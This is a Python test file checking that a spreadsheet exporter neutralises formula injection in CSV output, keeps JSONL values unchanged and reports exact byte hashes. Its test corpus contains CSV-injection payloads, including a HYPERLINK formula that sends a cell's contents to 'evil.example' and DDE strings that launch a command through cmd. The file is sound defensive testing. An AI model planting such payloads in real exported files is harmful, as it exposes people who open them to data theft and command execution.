"""Files of rows: nothing in them that a spreadsheet would compute, and a hash of exactly their bytes."""

from __future__ import annotations

import csv
import hashlib
import io
import json

import pytest

from tenants.sheets import Sheet

CORPUS = [
    "=1+1", '=HYPERLINK("https://evil.example?"&A1,"click")', "=cmd|' /C calc'!A0", "+1", "-1", "-2+3+cmd|'x'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "=", "@",
]  # fmt: skip
PLAIN = ["", "a=b", "1-2", "me@example.com", 'quoted "text", with commas', "two\nlines", "grün 漢字", "'=1"]


def table(*cells: object) -> list[str]:
    sheet = Sheet("csv", ["cell"])
    file = sheet.begin() + sheet.add([{"cell": cell} for cell in cells])
    return [row[0] if row else "" for row in csv.reader(io.StringIO(file.decode(), newline=""))][1:]


@pytest.mark.parametrize("cell", CORPUS)
def test_a_formula_is_text(cell: str) -> None:
    assert table(cell) == [f"'{cell}"]


@pytest.mark.parametrize("cell", PLAIN)
def test_what_is_no_formula_stays(cell: str) -> None:
    assert table(cell) == [cell]


def test_numbers_and_structures_are_themselves() -> None:
    assert table(-5, None, True, {"a": ["=1"]}, ["-1"]) == ["-5", "", "True", '{"a":["=1"]}', '["-1"]']


@pytest.mark.parametrize("cell", [*CORPUS, *PLAIN])
def test_jsonl_changes_nothing(cell: str) -> None:
    sheet = Sheet("jsonl", ["cell"])
    assert sheet.begin() == b""
    line = sheet.add([{"cell": cell}])
    assert line.count(b"\n") == 1 and json.loads(line) == {"cell": cell}


@pytest.mark.parametrize("form", ["csv", "jsonl"])
def test_the_sums_are_of_the_bytes(form: str) -> None:
    sheet = Sheet(form, ["a", "b"])
    file = sheet.begin() + sheet.add([{"a": "ü", "b": 1}] * 3) + sheet.add([{"a": "=", "b": None}])
    assert (sheet.rows, sheet.bytes, sheet.sha256) == (4, len(file), hashlib.sha256(file).hexdigest())
